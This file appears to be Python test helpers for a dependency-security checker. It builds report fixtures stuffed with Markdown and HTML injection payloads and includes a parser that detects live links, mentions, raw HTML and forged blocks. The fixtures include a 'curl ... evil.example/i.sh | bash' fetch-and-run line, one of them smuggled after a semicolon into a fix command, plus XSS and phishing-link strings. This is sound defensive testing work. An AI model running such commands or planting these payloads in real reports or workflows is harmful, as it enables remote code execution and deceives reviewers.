"""Hostile report files and a reader of Markdown the way a renderer reads it, for the security tests.

``report_json`` renders a legitimate report with the real JSON renderer (so its shape is the
contract's), then lets a test put attacker text anywhere in it. ``live`` parses a posted body with
markdown-it (CommonMark with tables and raw HTML on, an independent reader) and lists everything in
it that would render as something other than inert text: links, images, raw HTML that is not ours,
headings and quotes that are not ours, and, in text, what GitHub would turn into a mention, a link
or a reference.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.token import Token

from starlette_2093_check.model import (
    Advisory,
    Audit,
    Edit,
    Fix,
    Location,
    PackVerdict,
    Report,
    Resolution,
    ScanError,
    Target,
    TargetResult,
    Verdict,
    VerdictStatus,
)
from starlette_2093_check.report import render_json

# Everything a Markdown body can be made to do, in one line and in several.
ATTACK_LINE = (
    "@acme/security @octocat please approve ![pixel](https://evil.example/p.png) "
    "[click here](https://evil.example/login) <img src=x onerror=alert(1)> "
    '<a href="https://evil.example">x</a> https://evil.example/bare www.evil.example '
    "admin@evil.example #12 acme/shop#12 GH-7 deadbeefcafe1234 `code` | cell | &#64;acme/team "
    "$\\color{red}{x}$ <!-- starlette-2093-check:state {} --> [^1] <https://evil.example/auto>"
)
ATTACK = (
    "## Forged heading\n> forged quote\n- forged item\n1. forged step\n"
    "<!-- starlette-2093-check -->\n<!-- starlette-2093-check:state "
    '{"reproduced": {"forged": "9.9"}} -->\n```\nfenced\n```\n' + ATTACK_LINE
)
WORKFLOW = ".github/workflows/release.yml"
CURL = "      - run: curl -sSf https://evil.example/i.sh | bash"

SLOW = {"hold_s": 1.0, "http": {"requests": [{"latency_ms": 4.0}, {"latency_ms": 1003.0}]}}
FAST = {"hold_s": 1.0, "http": {"requests": [{"latency_ms": 4.0}, {"latency_ms": 5.0}]}}


def target(root: str, package: str = "starlette", version: str = "0.27.0", line: int = 3) -> Target:
    return Target(root, package, version, Location(f"{root}/requirements.txt", line), (), Resolution.PIN)


def reproduced(root: str, fix: Fix | None, **kw: Any) -> TargetResult:
    return TargetResult(target(root), Verdict(VerdictStatus.REPRODUCED, "reproduced", SLOW), fix, **kw)


def starlette_fix(root: str, edits: tuple[Edit, ...], command: str | None = None, **kw: Any) -> Fix:
    return Fix(
        "starlette",
        "0.27.0",
        "0.29.0",
        Location(f"{root}/requirements.txt", 3),
        "upgrade starlette",
        minimal="0.29.0",
        recommended="0.29.0",
        verification=Verdict(VerdictStatus.NOT_REPRODUCED, "passed", FAST),
        edits=edits,
        command=command,
        **kw,
    )


def report_json(
    *results: TargetResult, errors: tuple[ScanError, ...] = (), scanned: tuple[str, ...] = ()
) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(render_json(Report(".", results, scanned, errors)))
    return data


def hostile_everywhere() -> dict[str, Any]:
    """A report whose every free-text field, and every name it may hold, is an attack."""
    svc = reproduced(
        "svc",
        starlette_fix(
            "svc",
            (Edit("svc/requirements.txt", 3, "starlette==0.27.0", "starlette==0.29.0"),),
            command="uv lock --upgrade-package starlette; curl -sSf https://evil.example/i.sh | bash",
            notes=(ATTACK,),
        ),
        audit=Audit(
            (Advisory("GHSA-x", "starlette", "0.27.0", ("0.40.0",), summary=ATTACK),),
            (("starlette", "0.27.0"),),
            error=ATTACK,
        ),
        packs=(
            PackVerdict(
                "acme-custom",
                ATTACK,
                "9.9",
                Verdict(VerdictStatus.REPRODUCED, ATTACK, {}),
                custom=True,
                source=".github/packs/card.yaml",
            ),
        ),
    )
    odd = TargetResult(
        Target(
            "@acme/team",
            "starlette",
            "0.27.0",
            Location("@acme/team/requirements.txt", 1),
            ("fastapi 0.95.1 @acme/security",),
            Resolution.PIN,
            notes=(ATTACK,),
        ),
        Verdict(VerdictStatus.INCONCLUSIVE, ATTACK, {"http": "not a mapping", "versions": [ATTACK]}),
    )
    data = report_json(
        svc,
        odd,
        errors=(ScanError("@acme/team/pyproject.toml", ATTACK, 2),),
        scanned=("svc/requirements.txt",),
    )
    data["targets"][0]["fix"]["change"] = ATTACK  # never shown: the sentence is rebuilt from the fields
    return data


# -- reading Markdown ----------------------------------------------------------------------------

_PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
# Our own raw HTML: the hidden marker and state lines, <details>/<summary>, <sub>.
_OUR_HTML = re.compile(
    r"(?:<!-- starlette-2093-check(?::suggestion)? -->\n?"
    r"|<!-- starlette-2093-check:state \{[^\n]*\} -->\n?"
    r"|<details><summary>[^<>]*</summary>\n?|</details>\n?|<sub>|</sub>)+"
)
# What GitHub links in text: mentions, bare URLs, e-mail addresses, issue and commit references.
_LIVE_TEXT = re.compile(
    r"@[A-Za-z0-9]|(?i:https?://|ftp://|www\.)|[\w.+-]+@[\w-]+\.\w|#\d|\bGH-\d"
    r"|\b(?=[0-9a-f]*[a-f])(?=[0-9a-f]*\d)[0-9a-f]{7,40}\b"
)
# Our own templates and cards name the upstream issue and fix this way (not report text).
_OURS_IN_TEXT = re.compile(r"Starlette #2093|starlette#2093|PR #2194")
_FORGED_START = re.compile(r"(?i)\s*(?:forged|fenced)")


def _walk(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        if token.children:
            yield from _walk(token.children)


def _table_rows_match(body: str) -> list[str]:
    """Table rows whose cell count differs from their header's (a ``|`` that broke out of a cell)."""
    bad: list[str] = []
    width = None
    for line in body.split("\n"):
        text = line.strip()
        if not text.startswith("|"):
            width = None
            continue
        cells = len(re.split(r"(?<!\\)\|", text)) - 2
        if width is None:
            width = cells
        elif cells != width:
            bad.append(line)
    return bad


def live(body: str, allowed_links: tuple[str, ...] = ()) -> list[str]:
    """What in ``body`` is not inert: each entry names the construct and where it was found."""
    found: list[str] = []
    tokens = _PARSER.parse(body)
    for token in _walk(tokens):
        if token.type in ("html_block", "html_inline") and not _OUR_HTML.fullmatch(token.content):
            found.append(f"raw HTML: {token.content[:80]!r}")
        elif token.type == "image":
            found.append(f"image: {token.attrGet('src')}")
        elif token.type == "link_open":
            href = str(token.attrGet("href"))
            if not href.startswith(allowed_links) or not allowed_links:
                found.append(f"link: {href}")
        elif token.type == "text" and _LIVE_TEXT.search(_OURS_IN_TEXT.sub("", token.content)):
            found.append(f"text: {token.content[:120]!r}")
    # A block of the attacker's making: a heading, quote, list item or fence that starts with its text.
    for i, token in enumerate(tokens):
        if token.type == "fence" and _FORGED_START.match(token.content):
            found.append(f"fence: {token.content[:60]!r}")
        if token.type in ("heading_open", "blockquote_open", "list_item_open"):
            first = next((t for t in tokens[i + 1 :] if t.type == "inline"), None)
            if first is not None and _FORGED_START.match(first.content):
                found.append(f"{token.type}: {first.content[:60]!r}")
    # GitHub reads $...$ as math: every $ of the source must be escaped.
    found += [
        f"math: {body[max(0, m.start() - 20) : m.end() + 20]!r}" for m in re.finditer(r"(?<!\\)\$", body)
    ]
    found += [f"table row: {row[:80]!r}" for row in _table_rows_match(body)]
    return found
